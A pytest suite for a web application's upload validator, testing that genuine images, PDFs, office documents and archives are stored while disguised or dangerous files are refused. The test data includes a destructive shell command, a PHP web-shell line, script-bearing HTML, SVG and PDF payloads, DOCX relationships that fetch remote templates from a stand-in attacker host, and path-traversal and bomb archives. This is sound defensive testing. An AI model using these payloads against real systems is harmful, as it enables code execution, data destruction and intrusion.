"""What a file is decides what is in it, not its name; what is dangerous in it is refused or gone."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from fumehood import ConfigurationError, UploadRefused
from fumehood.practices.uploads.kinds import allowed_kinds
from fumehood.practices.uploads.names import clean_name, extension
from practices.uploads.conftest import PDF, Site, archive, document, file, image

HTML = b"<!doctype html><script>alert(1)</script>"
ODT = {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}


@pytest.mark.parametrize(
    ("content", "name", "kind"),
    [
        (image("PNG"), "a.png", "image/png"),
        (image("JPEG"), "photo of it.JPEG", "image/jpeg"),
        (image("GIF"), "a.gif", "image/gif"),
        (image("WEBP"), "a.webp", "image/webp"),
        (PDF, "paper.pdf", "application/pdf"),
        ("Größe in µm\r\n".encode(), "notes.txt", "text/plain"),
        (b"\xef\xbb\xbfa;b\n1;2\n", "data.csv", "text/csv"),
        (b"# Title\n\n<b>x</b>", "read.me.md", "text/markdown"),
        (document(), "paper.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        (archive(ODT, zipfile.ZIP_STORED), "paper.odt", "application/vnd.oasis.opendocument.text"),
        (b"", "empty.txt", "text/plain"),
    ],
)
def test_honest_files_are_stored(site: Site, content: bytes, name: str, kind: str) -> None:
    with site.app.test_request_context("/"):
        stored = site.store.save(file(content, name))
        assert (stored.content_type, stored.owner, stored.available) == (kind, "7", True)
        with site.store.open(stored.id) as kept:
            assert len(kept.read()) == stored.size


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (HTML, "page.html"),
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "drawing.svg"),
        (HTML, "photo.png"),
        (HTML, "notes.txt"),
        (b"#!/bin/sh\nrm -rf /", "notes.txt"),
        (b"<?php system($_GET[0]); ?>", "a.txt"),
        (b"MZ\x90\x00\x03", "a.txt"),
        (b"MZ\x90\x00\x03", "setup.exe"),
        ("Größe".encode("latin-1"), "a.txt"),
        (image("PNG"), "a.jpg"),
        (image("GIF"), "a.pdf"),
        (image("PNG"), "a.php.svg"),
        (image("PNG"), "noextension"),
        (image("PNG")[:60], "cut.png"),
        (b"GIF89a" + HTML, "a.gif"),
        (b"\x89PNG\r\n\x1a\n" + b"\0" * 50, "a.png"),
        (PDF + b"PK\x05\x06" + b"\0" * 18, "a.pdf"),
        (b"junk" + PDF, "a.pdf"),
        (PDF + b"<script>", "a.pdf"),
        (PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "a.pdf"),
        (PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/J#61vaScript>>"), "a.pdf"),
        (PDF.replace(b"/Catalog", b"/Catalog/A<</S/Launch>>"), "a.pdf"),
        (PDF.replace(b"trailer", b"trailer<</Encrypt 2 0 R>>"), "a.pdf"),
        (document(**{"word/vbaProject.bin": b"x"}), "a.docx"),
        (
            document(
                **{"word/_rels/settings.xml.rels": b"<R Type='x/attachedTemplate' TargetMode='External'/>"}
            ),
            "a.docx",
        ),
        (document(), "a.xlsx"),
        (archive({"a.txt": b"x"}), "a.docx"),
        (archive({"x": b"", **ODT}), "a.odt"),
        (archive({"a.txt": b"x"}), "a.zip"),
    ],
)
def test_files_that_are_not_what_they_say_or_act_are_refused(site: Site, content: bytes, name: str) -> None:
    with site.app.test_request_context("/"):
        with pytest.raises(UploadRefused) as refused:
            site.store.save(file(content, name))
        assert refused.value.code == 422
        assert site.store.files() == []
    assert len(site.events("upload.refused")) == 1
    assert not [
        path for path in site.store.place.folder.rglob("*") if path.is_file() and path.name != ".gitignore"
    ]  # type: ignore[attr-defined]


def test_javascript_in_an_object_stream_is_seen(site: Site) -> None:
    inside = zlib.compress(b"<</S/JavaScript/JS(1)>>")
    hidden = (
        b"2 0 obj\n<</Type/ObjStm/Filter/FlateDecode/Length %d>>\nstream\n" % len(inside)
        + inside
        + b"\nendstream\n"
    )
    with site.app.test_request_context("/"), pytest.raises(UploadRefused, match="scripts"):
        site.store.save(file(PDF.replace(b"trailer", hidden + b"trailer"), "a.pdf"))


OBJECTS = b"3 0 4 20 <</S/JavaScript/JS(1)>>"
PACKED = zlib.compress(OBJECTS)


@pytest.mark.parametrize(
    ("about", "packed"),
    [
        (b"/Type/ObjStm/Filter/FlateDecode", PACKED),
        (b"/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]", PACKED.hex().encode() + b">"),
        (b"/Filter[/FlateDecode/ASCIIHexDecode]/Type/ObjStm", zlib.compress(OBJECTS.hex().encode() + b">")),
        (b"/Type/Obj#53tm/Filter/Fl#61teDecode", PACKED),
        (b"/Type/ObjStm/DecodeParms<</Predictor 12/Columns 4>>/Filter/FlateDecode", PACKED),
        (b"/Filter/FlateDecode/X<<>>/Type/ObjStm", PACKED),
    ],
)
def test_no_packing_hides_a_script_in_a_pdf(site: Site, about: bytes, packed: bytes) -> None:
    hidden = b"2 0 obj\n<<" + about + b">>\nstream\n" + packed + b"\nendstream\nendobj\n"
    with site.app.test_request_context("/"), pytest.raises(UploadRefused):
        site.store.save(file(PDF.replace(b"trailer", hidden + b"trailer"), "a.pdf"))


def test_a_pdf_that_unpacks_to_too_much_is_refused(site: Site) -> None:
    packed = zlib.compress(b"1 0 <<>> " + b" " * 1_000_000)
    hidden = b"2 0 obj\n<</Type/ObjStm/Filter/FlateDecode>>\nstream\n" + packed + b"\nendstream\nendobj\n"
    with site.app.test_request_context("/"), pytest.raises(UploadRefused, match="complicated"):
        site.store.save(file(PDF.replace(b"trailer", hidden * 1000 + b"trailer"), "a.pdf"))


def test_a_pdf_with_honest_object_streams_is_stored(site: Site) -> None:
    objects = zlib.compress(b"1 0 2 31 <</Type/Page/Parent 3 0 R>> [0 0 612 792]")
    honest = b"2 0 obj\n<</Type /ObjStm /N 2 /First 9 /Filter /FlateDecode /Length %d>>\nstream\r\n" % len(
        objects
    )
    honest += objects + b"\nendstream\nendobj\n"
    with site.app.test_request_context("/"):
        assert site.store.save(file(PDF.replace(b"trailer", honest + b"trailer"), "a.pdf")).available


_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@pytest.mark.parametrize(
    ("part", "content"),
    [
        ("word/_rels/document.xml.rels", f'<Relationship Type="{_RELATIONS}/oleObject" Target="https://evil.example/x.html!" TargetMode="External"/>'),
        ("word/_rels/renamed.xml.rels", f"<Relationship TargetMode = 'External' Target='//evil.example/x' Type='{_RELATIONS}/attachedTemplate'/>"),
        ("word/_rels/settings.xml.RELS", f'<Relationship Id="a>b" Type="{_RELATIONS}/attached&#84;emplate" TargetMode="External" Target="x"/>'),
        ("word/_rels/document.xml.rels", '<Relationship Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="plain.bin"/>'),
        ("word/_rels/document.xml.rels", " " * 1_100_000 + f'<Relationship Type="{_RELATIONS}/oleObject" TargetMode="External"/>'),
        ("word/_rels/document.xml.rels", '<!DOCTYPE x [<!ENTITY e "External">]><Relationship Type="x/oleObject" TargetMode="&e;"/>'),
        ("word/_rels/document.xml.rels", f'<!-- " --><Relationship Type="{_RELATIONS}/frame" TargetMode="External"/><!-- " -->'),
    ],
)  # fmt: skip
def test_a_document_that_fetches_or_runs_something_when_opened_is_refused(
    site: Site, part: str, content: str
) -> None:
    with site.app.test_request_context("/"), pytest.raises(UploadRefused):
        site.store.save(file(document(**{part: content.encode()}), "a.docx"))
    with site.app.test_request_context("/"), pytest.raises(UploadRefused):
        site.store.save(file(document(**{part: content.encode("utf-16")}), "a.docx"))


def test_a_document_with_links_and_pictures_from_elsewhere_is_stored(site: Site) -> None:
    links = "".join(
        f'<Relationship Id="r{kind}" Type="{_RELATIONS}/{kind}" Target="https://example.org/" TargetMode="External"/>'
        for kind in ("hyperlink", "image")
    )
    inside = f'<Relationship Id="r3" Type="{_RELATIONS}/oleObject" Target="embeddings/sheet.xlsx"/>'
    with site.app.test_request_context("/"):
        content = document(
            **{"word/_rels/document.xml.rels": f"<Relationships>{links}{inside}</Relationships>".encode()}
        )
        assert site.store.save(file(content, "a.docx")).available


def test_images_are_made_anew(site: Site) -> None:
    exif = Image.Exif()
    exif[0x0112] = 6  # turned by a quarter
    exif[0x010E] = "taken at 48.1, 11.5"
    content = image("JPEG", size=(60, 40), exif=exif, comment=b"secret") + HTML
    with site.app.test_request_context("/"):
        stored = site.store.save(file(content, "a.jpg"))
        kept = site.content(stored.id)
    assert b"taken at" not in kept
    assert b"secret" not in kept
    assert b"<script" not in kept
    made = Image.open(io.BytesIO(kept))
    assert made.size == (40, 60)
    assert not made.getexif()


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGB", "RGBA", "CMYK", "I;16"])
def test_all_kinds_of_pixels_come_through(site: Site, mode: str) -> None:
    made = io.BytesIO()
    Image.new(mode, (20, 10)).save(made, "JPEG" if mode == "CMYK" else "PNG")
    with site.app.test_request_context("/"):
        stored = site.store.save(file(made.getvalue(), "a.jpg" if mode == "CMYK" else "a.png"))
        assert Image.open(io.BytesIO(site.content(stored.id))).size == (20, 10)


@pytest.mark.parametrize("kind", ["GIF", "WEBP"])
def test_animations_keep_their_frames(site: Site, kind: str) -> None:
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "green", "blue")]
    made = io.BytesIO()
    frames[0].save(made, kind, save_all=True, append_images=frames[1:], duration=80)
    with site.app.test_request_context("/"):
        stored = site.store.save(file(made.getvalue(), f"a.{kind.lower()}"))
        assert Image.open(io.BytesIO(site.content(stored.id))).n_frames == 3  # type: ignore[attr-defined]


def _png_of(width: int, height: int) -> bytes:
    """A header that promises many pixels, and almost no data."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + chunk(b"IEND", b"")
    )


@pytest.mark.parametrize("size", [(7000, 7000), (12_000, 12_000), (60_000, 60_000)])
def test_decompression_bombs_are_refused_by_their_header(site: Site, size: tuple[int, int]) -> None:
    with site.app.test_request_context("/"), pytest.raises(UploadRefused) as refused:
        site.store.save(file(_png_of(*size), "a.png"))
    assert refused.value.code == 413


@pytest.fixture
def zips(tmp_path: Path) -> Site:
    return Site(tmp_path, uploads_types=["zip", "mp3", "mp4"])


def _with_entry(name: str, mode: int = 0o100644, flags: int = 0) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as target:
        entry = zipfile.ZipInfo("placeholder")
        entry.filename = name
        entry.external_attr = mode << 16
        target.writestr(entry, b"x")
    content = made.getvalue()
    if flags:
        at = content.rindex(b"PK\x01\x02")
        content = content[: at + 8] + bytes([flags]) + content[at + 9 :]
    return content


@pytest.mark.parametrize(
    "content",
    [
        archive({f"f{n}": b"" for n in range(2001)}),
        archive({"zeros": b"\0" * 5_000_000}),
        archive({"inner.zip": archive({"a": b"x"})}),
        archive({"inner.dat": archive({"a": b"x"})}),
        _with_entry("../../etc/passwd"),
        _with_entry("/etc/passwd"),
        _with_entry("C:\\windows\\x"),
        _with_entry("a\\..\\b"),
        _with_entry("link", mode=0o120777),
        _with_entry("locked", flags=1),
        archive({"A.txt": b"1", "a.txt": b"2"}),
        b"MZ" + archive({"a": b"x"}),
        archive({"a": b"x"}) + b"trailing",
        archive({"a": b"x" * 100}).replace(b"PK\x01\x02", b"PK\x01\x03"),
        b"PK\x03\x04",
    ],
)
def test_archives_that_would_harm_are_refused(zips: Site, content: bytes) -> None:
    with zips.app.test_request_context("/"), pytest.raises(UploadRefused):
        zips.store.save(file(content, "a.zip"))


def test_an_archive_that_lies_about_sizes_is_refused(zips: Site) -> None:
    content = bytearray(archive({"a": b"\0" * 1000}))
    at = content.rindex(b"PK\x01\x02")
    content[at + 24 : at + 28] = struct.pack("<I", 10)
    with zips.app.test_request_context("/"), pytest.raises(UploadRefused):
        zips.store.save(file(bytes(content), "a.zip"))


def test_overlapping_entries_are_refused(zips: Site) -> None:
    content = bytearray(archive({"a": b"1" * 500, "b": b"2" * 500}, zipfile.ZIP_STORED))
    at = content.rindex(b"PK\x01\x02")
    content[at + 42 : at + 46] = struct.pack("<I", 0)
    with zips.app.test_request_context("/"), pytest.raises(UploadRefused):
        zips.store.save(file(bytes(content), "a.zip"))


def test_honest_archives_and_media_pass(zips: Site) -> None:
    with zips.app.test_request_context("/"):
        for content, name in [
            (archive({"a/b.txt": b"text" * 1000, "a/c.csv": b"1,2"}), "a.zip"),
            (archive({}), "empty.zip"),
            (archive({"a": b"\0" * 900_000}), "small-but-dense.zip"),
            (b"ID3\x04" + b"\0" * 500, "song.mp3"),
            (b"\0\0\0\x20ftypisom" + b"\0" * 500, "film.mp4"),
        ]:
            assert zips.store.save(file(content, name)).available


@pytest.mark.parametrize(
    ("given_name", "clean"),
    [
        ("photo.png", "photo.png"),
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\me\\a.png", "a.png"),
        ("cod\u202efdp.exe", "codfdp.exe"),
        ("a\0b\r\n.png", "ab.png"),
        (".htaccess", "htaccess"),
        ("con.txt", "_con.txt"),
        ("", "file"),
        (None, "file"),
        ("..", "file"),
        ("re\u0301sume\u0301.pdf", "résumé.pdf"),
        ('a"b<c>.png', "abc.png"),
        ("研究 3.png", "研究 3.png"),
    ],
)
def test_names_are_only_shown(given_name: str | None, clean: str) -> None:
    assert clean_name(given_name) == clean


@given(st.text(max_size=300))
def test_no_name_is_a_path(given_name: str) -> None:
    name = clean_name(given_name)
    assert name == clean_name(name)
    assert 1 <= len(name) <= 121
    assert not set(name) & set('/\\:\0\r\n"')
    assert name not in {".", ".."}
    assert not name.startswith(".")
    assert extension(name) == extension(name).lower()


@pytest.mark.parametrize("name", ["svg", "html", "js"])
def test_what_runs_in_a_browser_cannot_be_allowed(tmp_path: Path, name: str) -> None:
    with pytest.raises(ConfigurationError, match="runs scripts"):
        Site(tmp_path, uploads_types=["png", name])
    with pytest.raises(ConfigurationError, match="is not known"):
        allowed_kinds(("doc",))
